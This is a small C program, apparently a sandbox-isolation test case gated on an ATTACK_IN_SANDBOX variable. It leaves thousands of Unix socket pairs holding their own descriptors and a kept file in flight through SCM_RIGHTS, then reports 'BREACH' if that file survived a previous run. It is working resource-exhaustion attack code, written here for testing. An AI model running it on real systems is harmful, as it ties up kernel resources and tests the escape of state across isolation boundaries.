// leave thousands of sockets that hold each other and nobody else, with files of scratch between them
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static void send_both(int over, const int *pair, int file) {
    const int sent[3] = {pair[0], pair[1], file};
    const size_t size = (file < 0 ? 2 : 3) * sizeof *sent;
    char byte = 0, room[CMSG_SPACE(sizeof sent)] = {0};
    struct iovec data = {&byte, 1};
    struct msghdr message = {.msg_iov = &data, .msg_iovlen = 1, .msg_control = room, .msg_controllen = CMSG_SPACE(size)};
    struct cmsghdr *rights = CMSG_FIRSTHDR(&message);
    rights->cmsg_level = SOL_SOCKET, rights->cmsg_type = SCM_RIGHTS, rights->cmsg_len = CMSG_LEN(size);
    memcpy(CMSG_DATA(rights), sent, size);
    if (sendmsg(over, &message, MSG_DONTWAIT) < 0) {} /* too many are on their way */
}

int main(void) {
    if (!getenv("ATTACK_IN_SANDBOX")) return 1;
    if (access("kept", F_OK) == 0) puts("BREACH a file of an earlier case");
    const int file = open("kept", O_RDWR | O_CREAT, 0600);
    for (int i = 0; i < 2000; i++) {
        int pair[2];
        if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) < 0) break;
        send_both(pair[0], pair, file), send_both(pair[1], pair, file);
        close(pair[0]), close(pair[1]);
    }
    puts("DONE");
}
